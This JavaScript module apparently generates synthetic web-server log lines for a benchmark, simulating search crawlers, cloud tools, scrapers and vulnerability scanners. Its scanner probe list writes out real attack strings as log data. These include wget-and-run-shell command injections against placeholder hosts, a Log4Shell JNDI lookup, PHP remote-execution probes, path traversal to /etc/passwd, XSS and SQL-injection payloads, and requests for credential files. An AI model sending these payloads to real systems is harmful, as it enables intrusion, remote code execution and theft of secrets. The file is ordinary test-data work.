// The machines of the 'wild' bench log (wild-log.js): crawlers from their published address ranges,
// tools and scrapers from clouds, scanners probing for WordPress, dotfiles, admin tools and old
// exploits, sending TLS bytes to port 80 or nothing at all. Each function returns a client:
// { ip, user, ua, utc, requests } with `requests` a generator of { request, status, bytes, referer }.
import { ARTICLES, addressV4, around, article, articleId, between, category, detailUrl, formUrl, hexDigits, image, listingUrl, pick, searchUrl, staticPage } from './wild-values.js'
import { hit } from './wild-visitors.js'

const hex = (n) => n.toString(16)

/** An element of `list` by its `weight`. */
function weighted(rand, list) {
  let r = rand() * list.reduce((sum, item) => sum + item.weight, 0)
  for (const item of list) {
    r -= item.weight
    if (r < 0) return item
  }
  return list[list.length - 1]
}

/** What a crawler fetches: products and categories above all, sitemaps, images, inquiry links; some gone. */
function crawlHit(rand, proto) {
  const r = rand()
  if (r < 0.5) {
    const s = rand()
    return hit(`GET ${detailUrl(rand, article(between(rand, 1, ARTICLES + 400)))} ${proto}`, s < 0.05 ? 404 : s < 0.07 ? 301 : 200, s < 0.05 ? between(rand, 16500, 17200) : s < 0.07 ? 0 : between(rand, 18000, 36000), '-')
  }
  if (r < 0.76) return hit(`GET ${listingUrl(rand, category(rand))} ${proto}`, 200, between(rand, 22000, 48000), '-')
  if (r < 0.82) return hit(`GET ${rand() < 0.5 ? '/sitemap.xml' : `/web/sitemap/shop-1/sitemap-${between(rand, 1, 3)}.xml.gz`} ${proto}`, 200, between(rand, 2000, 90000), '-')
  if (r < 0.86) return hit(`GET ${staticPage(rand)} ${proto}`, 200, between(rand, 12000, 16000), '-')
  if (r < 0.9) return hit(`GET / ${proto}`, 200, between(rand, 25000, 32000), '-')
  if (r < 0.94) return hit(`GET ${formUrl(rand, article(articleId(rand)))} ${proto}`, 200, between(rand, 14000, 17000), '-')
  if (r < 0.96) return hit(`GET ${searchUrl(rand)} ${proto}`, 200, between(rand, 20000, 40000), '-')
  const [url, size] = image(rand, article(articleId(rand)))
  return hit(`GET ${url} ${proto}`, 200, size, '-')
}

/** A crawler's visit: robots.txt now and then, then pages one after another. */
function* crawling(rand, bot) {
  const proto = rand() < bot.h2 ? 'HTTP/2.0' : 'HTTP/1.1'
  if (rand() < 0.15) yield hit(`GET /robots.txt ${proto}`, 200, 412, '-')
  for (let n = 1 + Math.floor(around(rand, bot.mean)); n > 0; n--) {
    if (!bot.images) yield crawlHit(rand, proto)
    else {
      const [url, size] = image(rand, article(articleId(rand)))
      yield hit(`GET ${url} ${proto}`, 200, size, '-')
    }
  }
}

/** A price scraper: product pages one after another, as fast as it dares. */
function* scraping(rand) {
  for (let n = 20 + Math.floor(around(rand, 120)); n > 0; n--) {
    yield hit(`GET ${detailUrl(rand, article(between(rand, 1, ARTICLES)))} HTTP/1.1`, 200, between(rand, 18000, 36000), '-')
  }
}

const FEEDS = ['idealo.csv', 'google_shopping.xml', 'billiger.csv', 'moebel_de.csv']
/** A tool's one or two requests: a check of the home page, a product feed, robots.txt, a webhook. */
function* tooling(rand, kind) {
  if (kind === 'feed') yield hit(`GET /backend/export/index/${pick(rand, FEEDS)}?feedID=${between(rand, 2, 9)}&hash=${hexDigits(rand, 32)} HTTP/1.1`, 200, between(rand, 2_000_000, 15_000_000), '-')
  else if (kind === 'webhook') yield hit('POST /PaymentPaypalUnified/webhook/execute HTTP/1.1', 200, 0, '-')
  else {
    const r = rand()
    yield r < 0.4 ? hit('HEAD / HTTP/1.1', 200, 0, '-') : r < 0.7 ? hit('GET / HTTP/1.1', 200, between(rand, 25000, 32000), '-') : hit('GET / HTTP/1.1', 301, 162, '-')
    if (rand() < 0.3) yield hit(`GET ${pick(rand, ['/robots.txt', '/sitemap.xml', '/.well-known/security.txt', '/favicon.ico'])} HTTP/1.1`, 200, between(rand, 400, 3000), '-')
  }
}

function googleAddress(rand) {
  return rand() < 0.7 ? `66.249.${pick(rand, [64, 65, 66, 68, 69, 70, 72, 73, 79])}.${between(rand, 1, 12) * 8 + 1}` : `2001:4860:4801:${hex(between(rand, 0x10, 0x9f))}::${hex(between(rand, 1, 0x3f))}`
}

const GOOGLEBOT = '(compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
// weight: share of crawler visits; mean: pages per visit; h2: share of visits over HTTP/2
const CRAWLERS = [
  { weight: 30, mean: 120, h2: 0.5, address: googleAddress, ua: (rand) => `Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${between(rand, 128, 131)}.0.${between(rand, 6600, 6778)}.${between(rand, 60, 200)} Mobile Safari/537.36 ${GOOGLEBOT}` },
  { weight: 12, mean: 60, h2: 0.3, address: googleAddress, ua: () => `Mozilla/5.0 ${GOOGLEBOT}` },
  { weight: 4, mean: 40, h2: 0, address: googleAddress, ua: () => 'Googlebot-Image/1.0', images: true },
  { weight: 3, mean: 10, h2: 0, address: googleAddress, ua: (rand) => `Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${between(rand, 128, 131)}.0.${between(rand, 6600, 6778)}.${between(rand, 60, 200)} Mobile Safari/537.36 (compatible; AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html)` },
  { weight: 20, mean: 80, h2: 0, address: (rand) => `${pick(rand, ['40.77.167', '207.46.13', '157.55.39', '52.167.144'])}.${between(rand, 1, 254)}`, ua: () => 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36' },
  { weight: 10, mean: 100, h2: 0, address: (rand) => `54.36.${between(rand, 148, 149)}.${between(rand, 1, 254)}`, ua: () => 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)' },
  { weight: 8, mean: 100, h2: 0, address: (rand) => `${pick(rand, ['185.191.171', '85.208.96', '85.208.98'])}.${between(rand, 1, 254)}`, ua: () => 'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)' },
  { weight: 5, mean: 60, h2: 0, address: (rand) => `114.119.${between(rand, 128, 159)}.${between(rand, 1, 254)}`, ua: () => 'Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)' },
  { weight: 4, mean: 50, h2: 0, address: (rand) => (rand() < 0.5 ? `5.255.231.${between(rand, 1, 254)}` : `2a02:6b8:c0e:${hex(between(rand, 0x100, 0x1ff))}:0:${hex(between(rand, 0x400, 0x4ff))}:${hex(between(rand, 1, 0xff))}:0`), ua: () => 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)' },
  { weight: 5, mean: 2, h2: 0.8, address: (rand) => `2a03:2880:f${hex(between(rand, 0x800, 0x8ff))}:${hex(between(rand, 1, 0xff))}::`, ua: () => 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)' },
  { weight: 4, mean: 30, h2: 0, address: (rand) => `17.${pick(rand, [22, 241, 246])}.${between(rand, 0, 255)}.${between(rand, 1, 254)}`, ua: () => 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)' },
  { weight: 4, mean: 60, h2: 0, address: (rand) => `20.171.207.${between(rand, 1, 254)}`, ua: () => 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)' },
  { weight: 2, mean: 40, h2: 0, address: (rand) => `216.244.66.${between(rand, 192, 254)}`, ua: () => 'Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)' },
  { weight: 2, mean: 20, h2: 0, address: (rand) => `180.76.15.${between(rand, 1, 254)}`, ua: () => 'Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)' },
]

export function crawler(rand) {
  const bot = weighted(rand, CRAWLERS)
  return { ip: bot.address(rand), user: '-', ua: bot.ua(rand), utc: false, requests: crawling(rand, bot) }
}

/** A machine in a cloud or hosting network: mostly IPv4, some IPv6. */
function cloudAddress(rand) {
  const r = rand()
  if (r < 0.12) return `${pick(rand, ['2a01:4f8', '2604:a880', '2001:41d0', '2a05:d014'])}:${hex(between(rand, 0x100, 0xffff))}:${hex(between(rand, 1, 0xffff))}::${hex(between(rand, 1, 0xff))}`
  return addressV4(rand, [3, 18, 34, 35, 44, 45, 52, 54, 64, 104, 135, 138, 139, 142, 143, 157, 159, 161, 164, 165, 167, 168, 178, 188, 195])
}

const TOOLS = [
  { weight: 30, kind: 'check', ua: (rand) => `curl/${pick(rand, ['7.68.0', '7.81.0', '7.88.1', '8.5.0', '8.9.1'])}` },
  { weight: 15, kind: 'check', ua: () => 'Go-http-client/1.1' },
  { weight: 10, kind: 'check', ua: (rand) => `python-requests/2.${between(rand, 25, 32)}.${between(rand, 0, 3)}` },
  { weight: 6, kind: 'check', ua: () => 'Wget/1.21.4' },
  { weight: 6, kind: 'feed', ua: (rand) => pick(rand, ['Go-http-client/2.0', 'Apache-HttpClient/4.5.14 (Java/17.0.10)', 'Wget/1.21.3']) },
  { weight: 5, kind: 'webhook', ua: () => 'PayPal/AUHD-214.0-58166151', address: (rand) => `173.0.${between(rand, 80, 83)}.${between(rand, 1, 254)}` },
  { weight: 2, kind: 'scrape', ua: (rand) => (rand() < 0.5 ? `python-requests/2.${between(rand, 25, 32)}.0` : 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36') },
]

export function tool(rand) {
  const t = weighted(rand, TOOLS)
  return { ip: t.address ? t.address(rand) : cloudAddress(rand), user: '-', ua: t.ua(rand), utc: false, requests: t.kind === 'scrape' ? scraping(rand) : tooling(rand, t.kind) }
}

// What scanners ask for: [method, target, status]. `\x5C`, `\x22`: nginx's escapes of `\` and `"`.
const PROBES = [
  ['GET', '/wp-login.php', 404], ['POST', '/xmlrpc.php', 404], ['GET', '/wp-admin/setup-config.php?step=1', 404], ['GET', '/wp-content/plugins/wp-file-manager/readme.txt', 404],
  ['GET', '/wp-includes/wlwmanifest.xml', 404], ['GET', '/blog/wp-login.php', 404], ['GET', '/.env', 403], ['GET', '/.env.production', 403], ['GET', '/.git/config', 403],
  ['GET', '/.git/HEAD', 403], ['GET', '/.aws/credentials', 403], ['GET', '/.DS_Store', 403], ['GET', '/.vscode/sftp.json', 403], ['GET', '/phpmyadmin/', 404],
  ['GET', '/pma/index.php', 404], ['GET', '/phpinfo.php', 404], ['GET', '/info.php', 404], ['GET', '/admin/', 404], ['GET', '/administrator/index.php', 404],
  ['GET', '/backup.zip', 404], ['GET', '/shop.sql', 404], ['GET', '/config.php.bak', 404], ['GET', '/config/parameters.yml', 404], ['POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404],
  ['POST', '/_ignition/execute-solution', 404], ['GET', '/actuator/env', 404], ['GET', '/server-status', 403], ['GET', '/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f', 404],
  ['GET', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.23%2Ft%7Csh%60)', 400],
  ['GET', '/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21', 404],
  ['GET', '/?XDEBUG_SESSION_START=phpstorm', 200], ['GET', '/../../../../../../etc/passwd', 400], ['GET', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
  ['POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh', 400], ['GET', '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws', 404],
  ['POST', '/boaform/admin/formLogin', 404], ['GET', '/HNAP1/', 404], ['PROPFIND', '/', 405], ['OPTIONS', '/', 200], ['TRACE', '/', 405], ['HEAD', '/', 200],
  ['CONNECT', 'www.google.com:443', 400], ['GET', 'http://198.51.100.9/proxy.txt', 404], ['GET', '/search?sSearch=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E', 200],
  ['GET', '/search?sSearch=\\x22><svg/onload=alert(1)>', 200], ['GET', "/wohnzimmer/?p=1'%20AND%20'1'='1", 500], ['GET', '/?x=${jndi:ldap://${hostName}.c6q3.interact.example/a}', 200],
  ['GET', '/search?sSearch=ecksofa grau', 400], ['GET', '/wp-content/themes/seotheme/mar.php', 404], ['GET', '/alfa.php', 404], ['GET', '/.well-known/acme-challenge/../../.env', 400],
]
const PROBE_BYTES = { 200: [25000, 32000], 301: [162, 162], 400: [157, 157], 403: [153, 153], 404: [16800, 17200], 405: [157, 157], 500: [0, 600] }
const SCANNER_UAS = [
  '-', 'Mozilla/5.0 zgrab/0.x', 'Go-http-client/1.1', 'python-requests/2.27.1', 'Mozilla/5.0 (l9scan/2.0.137313e24313e28313e2; +https://leakix.net)',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please contact us at: scaninfo@paloaltonetworks.com',
]

/** A TLS ClientHello sent to port 80, as nginx logs it: `\x16\x03\x01…`, printable bytes as themselves. */
function tlsBytes(rand) {
  let s = '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03'
  for (let n = between(rand, 4, 40); n > 0; n--) {
    const b = between(rand, 0, 255)
    s += b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c ? String.fromCharCode(b) : `\\x${b.toString(16).toUpperCase().padStart(2, '0')}`
  }
  return s
}

function* probing(rand, proto) {
  for (let n = 1 + Math.floor(rand() * rand() * 120); n > 0; n--) {
    const r = rand()
    if (r < 0.06) yield hit(tlsBytes(rand), 400, 157, '-')
    else if (r < 0.09) yield hit('-', 400, 0, '-')
    else if (r < 0.11) yield hit(`GET /?${between(rand, 1e8, 9e11)} ${proto}`, 200, between(rand, 25000, 32000), '-')
    else {
      const [method, target, status] = pick(rand, PROBES)
      const [least, most] = PROBE_BYTES[status]
      yield hit(`${method} ${target} ${proto}`, status, between(rand, least, most), '-')
    }
  }
}

export function scanner(rand) {
  return { ip: cloudAddress(rand), user: '-', ua: pick(rand, SCANNER_UAS), utc: false, requests: probing(rand, rand() < 0.8 ? 'HTTP/1.1' : 'HTTP/1.0') }
}
